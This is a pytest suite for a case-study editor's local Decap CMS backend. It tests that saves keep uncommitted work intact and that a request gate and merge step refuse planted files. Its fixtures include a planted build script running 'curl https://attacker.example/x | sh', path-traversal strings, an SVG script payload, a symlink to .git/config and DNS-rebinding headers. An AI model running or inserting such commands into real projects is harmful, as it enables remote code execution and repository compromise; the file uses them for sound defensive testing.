"""`casebook edit`: saving in the web editor never takes away an editor's uncommitted work.

The incident: with an uncommitted case in the folder, saving a different case in the form
(decap-server in Git mode, run in the project's folder) committed both onto the form's
branch; the first case vanished from main. Here the same save, driven through decap-server's
HTTP API with the request the form sends (persistEntry), runs against the editor's own
worktree. The same test run on the old flow fails (it is marked as an expected failure).

Issue 34: decap-server would write any file a request names, and `--merge` merged whatever
the entry's branch held. The requests here go through the preview's /api/v1, as the form's
do, with a browser's headers; a foreign Host or Origin is refused, a save outside the
editor's folders is refused, and a branch holding other files is never merged.
"""

from __future__ import annotations

import contextlib
import functools
import json
import os
import shutil
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from casebook.cli import main
from casebook.commands.editorgate import forward, refusal, writable, write_refusal
from casebook.commands.localeditor import (
    DECAP_SERVER,
    EDITOR_BRANCH,
    Backend,
    EditorError,
    Workspace,
    editor_lock,
    prepare,
    saved_entries,
    start_backend,
    stop_backend,
)
from casebook.commands.serve import Preview, PreviewHandler
from casebook.sources.project import Project
from sitebuild import REPO, copy_project, free_port, git

UNSAVED = "case_studies/my-unsaved-case.md"
CASE_ID = "kenya-schools"
CASE = f"""---
id: {CASE_ID}
title: Recording concerns together in a network of schools in Kenya
status: draft
---

## Context

TODO
"""


def _require_tools() -> None:
    if shutil.which("git") is None or not (REPO / DECAP_SERVER).exists():
        if os.environ.get("CI") == "true":
            pytest.fail("git and decap-server are needed: bash scripts/setup.sh --test")
        pytest.skip("git or decap-server is missing: bash scripts/setup.sh --test")


def _browser(port: int) -> dict[str, str]:
    """The headers a browser sends with the form's requests from the preview's /admin/."""
    return {
        "Content-Type": "application/json",
        "Origin": f"http://127.0.0.1:{port}",
        "Sec-Fetch-Site": "same-origin",
    }


def _api(port: int, action: str, params: dict[str, Any], **headers: str) -> Any:
    """A request to the preview's /api/v1, as the form in the browser sends it (headers
    given replace the browser's: Host, Origin, Sec_Fetch_Site...)."""
    sent = _browser(port) | {k.replace("_", "-"): v for k, v in headers.items()}
    request = urllib.request.Request(
        f"http://127.0.0.1:{port}/api/v1",
        data=json.dumps({"action": action, "params": params}).encode(),
        headers=sent,
    )
    with urllib.request.urlopen(request, timeout=30) as response:
        return json.loads(response.read())


def _status(port: int, action: str, params: dict[str, Any], **headers: str) -> int:
    try:
        _api(port, action, params, **headers)
    except urllib.error.HTTPError as refused:
        return refused.code
    return 200


def _entry(
    branch: str, collection: str, path: str, raw: str, assets: list[dict[str, str]] | None = None
) -> dict[str, Any]:
    slug = Path(path).stem
    return {
        "branch": branch,
        "dataFiles": [{"slug": slug, "path": path, "raw": raw}],
        "assets": assets or [],
        "options": {
            "collectionName": collection,
            "commitMessage": f"Create {collection} “{slug}”",
            "useWorkflow": True,
            "status": "draft",
        },
    }


def persist(port: int, branch: str, collection: str, path: str, raw: str) -> Any:
    """What the form sends when Save is chosen on a new entry (Decap's proxy backend)."""
    return _api(port, "persistEntry", _entry(branch, collection, path, raw))


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """The project as a Git repository, with a new case not committed yet (the incident)."""
    _require_tools()
    root = copy_project(tmp_path / "project")
    shutil.copy2(REPO / ".gitignore", root / ".gitignore")
    (root / "node_modules").symlink_to(REPO / "node_modules")
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "The project")
    (root / UNSAVED).write_text("---\ntitle: My unsaved case\n---\n\nNot committed yet.\n")
    return root


@contextlib.contextmanager
def preview_gate(worktree: Path, backend: Backend, branch: str) -> Iterator[int]:
    """The preview's server as `casebook edit` runs it (its /api/v1 forwards to
    decap-server), without building the site: the port it listens on."""
    port = free_port()
    preview = Preview(Project(worktree), port=port, cms_branch=branch, backend=backend.socket_path)
    handler = type("Handler", (PreviewHandler,), {"preview": preview})
    server = ThreadingHTTPServer(
        ("127.0.0.1", port), functools.partial(handler, directory=str(preview.site))
    )
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield port
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def decap(repo: Path, request: pytest.FixtureRequest) -> Iterator[tuple[Backend, Path, str]]:
    """decap-server, run as `casebook edit` runs it, or as CONTRIBUTING used to say."""
    if getattr(request, "param", "casebook edit") == "casebook edit":
        space = prepare(Project(repo))
        branch = EDITOR_BRANCH
    else:  # MODE=git node_modules/.bin/decap-server, in the project's folder, on main
        space = Workspace(repo, repo, "main")
        branch = "main"
    server = start_backend(Project(repo), space)
    try:
        yield server, space.worktree, branch
    finally:
        stop_backend(server)


@pytest.fixture
def backend(decap: tuple[Backend, Path, str]) -> Iterator[tuple[int, str]]:
    """The preview's port, forwarding to decap-server, and the form's branch."""
    server, worktree, branch = decap
    with preview_gate(worktree, server, branch) as port:
        yield port, branch


@pytest.mark.parametrize(
    "decap",
    [
        "casebook edit",
        pytest.param(
            "decap-server in the project's folder",
            marks=pytest.mark.xfail(
                strict=True, reason="it commits the editor's uncommitted files (git add .)"
            ),
        ),
    ],
    indirect=True,
)
def test_saving_in_the_form_leaves_uncommitted_work_where_it_was(
    repo: Path, backend: tuple[int, str]
) -> None:
    port, branch = backend
    before = git(repo, "status", "--porcelain")
    assert before.splitlines() == [f"?? {UNSAVED}"]
    persist(port, branch, "cases", f"case_studies/{CASE_ID}.md", CASE)

    # The save is a branch holding exactly the saved entry.
    assert saved_entries(repo) == [f"cms/cases/{CASE_ID}"]
    changed = git(repo, "diff", "--name-only", f"main...cms/cases/{CASE_ID}").split()
    assert changed == [f"case_studies/{CASE_ID}.md"]
    # The editor's own work is still in the folder, still uncommitted, on no branch.
    assert git(repo, "status", "--porcelain") == before
    assert (repo / UNSAVED).read_text().endswith("Not committed yet.\n")
    assert git(repo, "log", "--all", "--format=%H", "--", UNSAVED) == ""
    assert git(repo, "symbolic-ref", "--short", "HEAD").strip() == "main"
    assert not (repo / f"case_studies/{CASE_ID}.md").exists()


def test_merging_a_saved_case_keeps_the_board_working(
    repo: Path, backend: tuple[int, str], capsys: pytest.CaptureFixture[str]
) -> None:
    port, branch = backend
    persist(port, branch, "cases", f"case_studies/{CASE_ID}.md", CASE)
    questions = f"case: {CASE_ID}\npractitioners:\n  - What would help?\n"
    persist(port, branch, "questions", f"reflective_questions/cases/{CASE_ID}.yml", questions)
    assert sorted(_api(port, "unpublishedEntries", {"branch": branch})) == [
        f"cases/{CASE_ID}",
        f"questions/{CASE_ID}",
    ]

    with (repo / "case_studies" / "odi-mexico.md").open("a", encoding="utf-8") as case:
        case.write("\nAn edit not committed yet.\n")
    assert main(["--project", str(repo), "edit", "--merge", CASE_ID]) == 0
    out, err = capsys.readouterr()
    assert f"merged cms/cases/{CASE_ID} into your branch and deleted it" in err
    assert f"merged cms/questions/{CASE_ID} into your branch and deleted it" in err
    assert out.startswith("Check it with: ") and f"check {repo}/case_studies/{CASE_ID}.md" in out
    # Both entries are in the folder, committed on main; the uncommitted work is untouched.
    assert (repo / f"case_studies/{CASE_ID}.md").read_text() == CASE
    assert "An edit not committed yet." in (repo / "case_studies/odi-mexico.md").read_text()
    assert git(repo, "status", "--porcelain").splitlines() == [
        " M case_studies/odi-mexico.md",
        f"?? {UNSAVED}",
    ]
    assert saved_entries(repo) == []
    # The board lists no stale entry, and the form's list of cases has the merged case.
    assert _api(port, "unpublishedEntries", {"branch": branch}) == []
    listed = _api(
        port,
        "entriesByFolder",
        {"branch": branch, "folder": "case_studies", "extension": "md", "depth": 1},
    )
    assert f"case_studies/{CASE_ID}.md" in [e["file"]["path"] for e in listed]
    # Nothing left to merge for that id: said plainly.
    assert main(["--project", str(repo), "edit", "--merge", CASE_ID]) == 1
    assert "nothing saved in the web editor for 'kenya-schools'" in capsys.readouterr().err


def test_the_editor_worktree_is_reused_and_repaired(repo: Path) -> None:
    project = Project(repo)
    first = prepare(project)
    assert git(first.worktree, "symbolic-ref", "--short", "HEAD").strip() == EDITOR_BRANCH
    # main moves on: the editor's branch follows it the next time.
    git(repo, "commit", "-q", "--allow-empty", "-m", "Later work")
    again = prepare(project)
    assert again.worktree == first.worktree and again.notices == []
    assert git(repo, "rev-parse", EDITOR_BRANCH) == git(repo, "rev-parse", "main")
    # A deleted worktree folder (git clean -fdx, say) is pruned and made again.
    shutil.rmtree(first.worktree)
    assert prepare(project).worktree.joinpath("mkdocs.yml").is_file()
    # A save interrupted half-way is kept aside, not lost.
    (first.worktree / "case_studies" / "half.md").write_text("half\n")
    notices = prepare(project).notices
    assert any("git stash" in n for n in notices), notices
    assert "half.md" in git(first.worktree, "stash", "show", "--include-untracked", "--name-only")
    assert git(first.worktree, "status", "--porcelain") == ""
    # A folder in its place that Git does not know (copied from elsewhere, say) is moved aside.
    git(repo, "worktree", "remove", "--force", str(first.worktree))
    first.worktree.mkdir(parents=True)
    (first.worktree / "left.txt").write_text("left\n")
    notices = prepare(project).notices
    assert len(notices) == 1 and "Git did not know was moved to" in notices[0], notices
    [aside] = first.worktree.parent.glob("editor.stale-*")
    assert (aside / "left.txt").read_text() == "left\n"
    assert git(first.worktree, "symbolic-ref", "--short", "HEAD").strip() == EDITOR_BRANCH


def test_an_entry_published_from_the_board_is_kept_and_pointed_out(
    repo: Path, backend: tuple[int, str]
) -> None:
    """The board's Publish merges into the editor's branch, not the editor's own: the next
    start keeps it there and says how to bring it in."""
    port, branch = backend
    persist(port, branch, "cases", f"case_studies/{CASE_ID}.md", CASE)
    params = {"branch": branch, "collection": "cases", "slug": CASE_ID}
    _api(port, "publishUnpublishedEntry", params)
    assert saved_entries(repo) == []
    assert git(repo, "status", "--porcelain").splitlines() == [f"?? {UNSAVED}"]
    notices = prepare(Project(repo)).notices
    assert notices == [
        f"entries published in the editor's Workflow board are on the branch {EDITOR_BRANCH}, "
        f"not yet on main; bring them in with: git merge {EDITOR_BRANCH}"
    ]
    assert git(repo, "show", f"{EDITOR_BRANCH}:case_studies/{CASE_ID}.md") == CASE


# --- what a save and a merge may bring in (issue 34) -----------------------------------------

PLANTED = {
    "scripts/build.sh": "#!/bin/sh\ncurl https://attacker.example/x | sh\n",
    ".github/workflows/deploy.yml": "on: push\njobs: {}\n",
    ".gitignore": "# nothing is ignored any more\n",
}
UPLOAD = "docs/assets/uploads/kenya-map.png"


def _planted_entry(branch: str) -> dict[str, Any]:
    """A save naming the case and, beside it, files the form never writes."""
    params = _entry(branch, "cases", f"case_studies/{CASE_ID}.md", CASE)
    slug = params["dataFiles"][0]["slug"]
    params["dataFiles"] += [{"slug": slug, "path": p, "raw": raw} for p, raw in PLANTED.items()]
    return params


@pytest.mark.parametrize("decap", ["casebook edit"], indirect=True)
def test_a_save_that_writes_outside_the_entry_is_refused_by_the_preview(
    repo: Path, decap: tuple[Backend, Path, str], backend: tuple[int, str]
) -> None:
    port, branch = backend
    _, worktree, _ = decap
    assert _status(port, "persistEntry", _planted_entry(branch)) == 403
    media = _entry(branch, "cases", f"case_studies/{CASE_ID}.md", CASE)
    media["assets"] = [{"path": ".git", "content": "Z2l0ZGlyOiAvdG1w", "encoding": "base64"}]
    assert _status(port, "persistEntry", media) == 403
    traversal = _entry(branch, "cases", "case_studies/../.gitignore", CASE)
    assert _status(port, "persistEntry", traversal) == 403
    # Nothing was written or committed anywhere: no branch, a clean worktree.
    assert saved_entries(repo) == []
    assert git(worktree, "status", "--porcelain") == ""
    assert git(repo, "status", "--porcelain").splitlines() == [f"?? {UNSAVED}"]


@pytest.mark.parametrize("decap", ["casebook edit"], indirect=True)
def test_a_merge_brings_in_only_the_entrys_files(
    repo: Path, decap: tuple[Backend, Path, str], capsys: pytest.CaptureFixture[str]
) -> None:
    """Saved straight through decap-server's socket (past the preview's gate, as an older
    `casebook edit` or any program of this computer could), the entry's branch also holds
    a build script, a workflow and a new .gitignore: --merge merges none of it."""
    server, _, branch = decap
    status, _, _ = forward(
        server.socket_path,
        json.dumps({"action": "persistEntry", "params": _planted_entry(branch)}).encode(),
    )
    assert status == 200
    entry = f"cms/cases/{CASE_ID}"
    assert saved_entries(repo) == [entry]
    head = git(repo, "rev-parse", "HEAD")
    before = git(repo, "status", "--porcelain")
    planted_before = {p: _bytes(repo / p) for p in PLANTED}

    assert main(["--project", str(repo), "edit", "--merge", CASE_ID]) == 1
    err = capsys.readouterr().err
    assert "nothing was merged into main" in err
    assert f"{entry}: .github/workflows/deploy.yml, .gitignore, scripts/build.sh" in err
    assert f"case_studies/{CASE_ID}.md" not in err.split(f"{entry}: ")[1].splitlines()[0]
    # Neither the branch nor the working tree changed; the entry is left on its branch.
    assert git(repo, "rev-parse", "HEAD") == head
    assert git(repo, "status", "--porcelain") == before
    assert {p: _bytes(repo / p) for p in PLANTED} == planted_before
    assert not (repo / f"case_studies/{CASE_ID}.md").exists()
    assert saved_entries(repo) == [entry]
    assert git(repo, "show", f"{entry}:scripts/build.sh") == PLANTED["scripts/build.sh"]


def _bytes(path: Path) -> bytes | None:
    return path.read_bytes() if path.exists() else None


def _branch_as_decap_makes_it(repo: Path, branch: str, files: dict[str, str]) -> None:
    """A cms/ branch from main with these files committed, as decap-server commits a save."""
    folder = repo.parent / "decap-save"
    git(repo, "worktree", "add", "-q", "-b", branch, str(folder), "main")
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text, encoding="utf-8")
    git(folder, "add", ".")
    git(folder, "commit", "-q", "-m", f"Create {branch}")
    git(repo, "worktree", "remove", str(folder))


def test_a_merge_takes_the_entrys_translations_and_the_uploads_it_names(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    case = CASE.replace("TODO", "![A map of the schools](/assets/uploads/kenya-map.png)")
    _branch_as_decap_makes_it(
        repo,
        f"cms/cases/{CASE_ID}",
        {
            f"case_studies/{CASE_ID}.md": case,
            f"case_studies/{CASE_ID}.es.md": case,
            UPLOAD: "not really a PNG\n",
            "docs/assets/uploads/unrelated.png": "named by no file of the entry\n",
            f"case_studies/{CASE_ID}-other.md": "another case\n",
        },
    )
    assert main(["--project", str(repo), "edit", "--merge", CASE_ID]) == 1
    err = capsys.readouterr().err
    named = f"cms/cases/{CASE_ID}: case_studies/{CASE_ID}-other.md, "
    assert named + "docs/assets/uploads/unrelated.png" in err
    # Without the two foreign files, the case, its translation and its upload come in.
    git(repo, "branch", "-D", f"cms/cases/{CASE_ID}")
    _branch_as_decap_makes_it(
        repo,
        f"cms/cases/{CASE_ID}",
        {
            f"case_studies/{CASE_ID}.md": case,
            f"case_studies/{CASE_ID}.es.md": case,
            UPLOAD: "not really a PNG\n",
        },
    )
    assert main(["--project", str(repo), "edit", "--merge", CASE_ID]) == 0
    merged = git(repo, "diff", "--name-only", "HEAD~1", "HEAD").split()
    assert merged == [f"case_studies/{CASE_ID}.es.md", f"case_studies/{CASE_ID}.md", UPLOAD]
    assert git(repo, "status", "--porcelain").splitlines() == [f"?? {UNSAVED}"]


def test_a_merge_takes_no_upload_that_could_run_even_if_the_case_names_it(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    svg = "docs/assets/uploads/kenya-map.svg"
    case = CASE.replace("TODO", "![A map of the schools](/assets/uploads/kenya-map.svg)")
    _branch_as_decap_makes_it(
        repo,
        f"cms/cases/{CASE_ID}",
        {f"case_studies/{CASE_ID}.md": case, svg: "<svg><script>alert(1)</script></svg>\n"},
    )
    head = git(repo, "rev-parse", "HEAD")
    assert main(["--project", str(repo), "edit", "--merge", CASE_ID]) == 1
    err = capsys.readouterr().err
    assert f"cms/cases/{CASE_ID}: {svg}" in err
    assert git(repo, "rev-parse", "HEAD") == head and not (repo / svg).exists()


def test_a_symbolic_link_named_like_the_case_is_not_merged(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = repo.parent / "decap-save"
    git(repo, "worktree", "add", "-q", "-b", f"cms/cases/{CASE_ID}", str(folder), "main")
    (folder / f"case_studies/{CASE_ID}.md").symlink_to("../.git/config")
    git(folder, "add", ".")
    git(folder, "commit", "-q", "-m", "A link")
    git(repo, "worktree", "remove", str(folder))
    assert main(["--project", str(repo), "edit", "--merge", CASE_ID]) == 1
    assert f"cms/cases/{CASE_ID}: case_studies/{CASE_ID}.md" in capsys.readouterr().err
    assert not (repo / f"case_studies/{CASE_ID}.md").is_symlink()


def _request(port: int, path: str, method: str = "GET", **headers: str) -> int:
    body = json.dumps({"action": "info"}).encode() if method == "POST" else None
    request = urllib.request.Request(
        f"http://127.0.0.1:{port}{path}",
        data=body,
        method=method,
        headers={k.replace("_", "-"): v for k, v in headers.items()},
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return int(response.status)
    except urllib.error.HTTPError as refused:
        return refused.code


@pytest.mark.parametrize("decap", ["casebook edit"], indirect=True)
def test_the_backend_answers_only_the_previews_own_pages(
    decap: tuple[Backend, Path, str], backend: tuple[int, str]
) -> None:
    port, _ = backend
    info = {"Content_Type": "application/json"}
    same = {"Origin": f"http://127.0.0.1:{port}", "Sec_Fetch_Site": "same-origin"}
    # The form on the preview's own page, and a program without a browser's headers, pass.
    assert _request(port, "/api/v1", "POST", **info, **same) == 200
    assert _request(port, "/api/v1", "POST", **info) == 200
    local = {"Origin": f"http://localhost:{port}", "Host": f"localhost:{port}"}
    assert _request(port, "/api/v1", "POST", **info, **local) == 200
    # Another host's name (DNS rebinding), another origin, another port of this computer.
    assert _request(port, "/api/v1", "POST", **info, Host=f"attacker.example:{port}") == 403
    assert _request(port, "/api/v1", "POST", **info, Host="127.0.0.1:8081") == 403
    assert _request(port, "/", Host=f"attacker.example:{port}") == 403
    for origin in ("http://localhost:3000", "https://attacker.example", "null"):
        assert _request(port, "/api/v1", "POST", **info, Origin=origin) == 403, origin
    for site in ("same-site", "cross-site", "none"):
        assert _request(port, "/api/v1", "POST", **info, Sec_Fetch_Site=site) == 403, site
    # A plain-text POST needs no CORS preflight in a browser: refused too.
    assert _request(port, "/api/v1", "POST", Content_Type="text/plain") == 403
    assert _status(port, "info", {}, Origin="http://localhost:3000") == 403
    assert _api(port, "info", {})["type"] == "local_git"


@pytest.mark.parametrize("decap", ["casebook edit"], indirect=True)
def test_decap_server_listens_on_no_tcp_port(decap: tuple[Backend, Path, str]) -> None:
    """Its only socket is the Unix one in a folder of this user's only."""
    server, _, _ = decap
    proc = Path("/proc")
    if not (proc / "net" / "tcp").is_file():
        pytest.skip("needs Linux's /proc")
    assert (server.folder.stat().st_mode & 0o777) == 0o700
    listening = set()
    for table in ("tcp", "tcp6"):
        for line in (proc / "net" / table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A":  # LISTEN
                listening.add(fields[9])
    owned = set()
    for fd in (proc / str(server.process.pid) / "fd").iterdir():
        with contextlib.suppress(OSError):
            target = os.readlink(fd)
            if target.startswith("socket:["):
                owned.add(target[len("socket:[") : -1])
    assert owned, "decap-server has no socket at all"
    assert owned & listening == set()
    assert server.socket_path.is_socket()


@pytest.mark.parametrize("decap", ["casebook edit"], indirect=True)
def test_the_served_config_points_the_form_at_the_preview(
    decap: tuple[Backend, Path, str], backend: tuple[int, str]
) -> None:
    port, branch = backend
    _, worktree, _ = decap
    config = worktree / "build" / "preview" / "site" / "admin" / "config.yml"
    config.parent.mkdir(parents=True)
    config.write_text(
        "backend:\n  name: github\n  branch: main\npublish_mode: editorial_workflow\n",
        encoding="utf-8",
    )
    for host in (f"127.0.0.1:{port}", f"localhost:{port}"):
        request = urllib.request.Request(
            f"http://127.0.0.1:{port}/admin/config.yml", headers={"Host": host}
        )
        with urllib.request.urlopen(request, timeout=30) as response:
            served = response.read().decode("utf-8")
        assert f"url: http://{host}/api/v1" in served and f"branch: {branch}" in served


# --- the gate on its own (no decap-server needed) --------------------------------------------

JSON = ("Content-Type", "application/json")


@pytest.mark.parametrize(
    ("headers", "refused"),
    [
        ([("Host", "127.0.0.1:8000"), JSON], ""),
        ([("Host", "localhost:8000"), ("Origin", "http://localhost:8000"), JSON], ""),
        ([("host", "127.0.0.1:8000"), ("sec-fetch-site", "same-origin"), JSON], ""),
        ([("Host", "attacker.example:8000"), JSON], "Host was 'attacker.example:8000'"),
        ([("Host", "127.0.0.1:8001"), JSON], "Host was '127.0.0.1:8001'"),
        ([("Host", "127.0.0.1:8000"), ("Host", "attacker.example"), JSON], "two Host headers"),
        ([JSON], "Host was ''"),
        ([("Host", "127.0.0.1:8000"), ("Origin", "http://localhost:8000"), JSON], "Origin"),
        ([("Host", "127.0.0.1:8000"), ("Origin", "http://127.0.0.1:3000"), JSON], "Origin"),
        ([("Host", "127.0.0.1:8000"), ("Sec-Fetch-Site", "same-site"), JSON], "Sec-Fetch-Site"),
        ([("Host", "127.0.0.1:8000"), ("Content-Type", "text/plain")], "JSON only"),
    ],
)
def test_the_gate_admits_only_the_previews_own_requests(
    headers: list[tuple[str, str]], refused: str
) -> None:
    why = refusal("POST", "/api/v1", headers, 8000)
    assert (refused in why and why != "") if refused else why == ""


def test_the_gate_lets_pages_be_read_from_anywhere_but_only_at_the_previews_address() -> None:
    elsewhere = [("Host", "127.0.0.1:8000"), ("Sec-Fetch-Site", "cross-site")]
    assert refusal("GET", "/cases/odi-mexico/", elsewhere, 8000) == ""
    assert refusal("GET", "/", [("Host", "rebound.example:8000")], 8000) != ""
    assert "POST requests only" in refusal("GET", "/api/v1", [("Host", "127.0.0.1:8000")], 8000)


@pytest.mark.parametrize(
    ("path", "allowed"),
    [
        ("case_studies/kenya-schools.md", True),
        ("reflective_questions/cases/kenya-schools.yml", True),
        ("docs/assets/uploads/map.png", True),
        ("case_studies/../scripts/build.sh", False),
        ("case_studies/./x.md", False),
        ("case_studies//x.md", False),
        ("/etc/passwd", False),
        ("case_studies/.git/config", False),
        (".git", False),
        ("scripts/build.sh", False),
        (".github/workflows/deploy.yml", False),
        ("case_studiesx/a.md", False),
        ("case_studies", False),
        (None, False),
    ],
)
def test_a_save_may_write_only_in_the_editors_folders(path: object, allowed: bool) -> None:
    assert writable(path) is allowed
    entry = {"slug": "x", "path": path, "raw": "x"}
    request = {"action": "persistEntry", "params": {"dataFiles": [entry]}}
    why = write_refusal(json.dumps(request).encode())
    assert (why == "") is allowed


def test_one_casebook_edit_at_a_time(tmp_path: Path) -> None:
    """Two would run two decap-servers on one worktree; the second is told why it stops."""
    project = Project(tmp_path)
    busy = rf"another 'casebook edit' is running in this project \(pid {os.getpid()}\)"
    with editor_lock(project), pytest.raises(EditorError, match=busy), editor_lock(project):
        pass
    with editor_lock(project):  # released when the first one ends
        pass
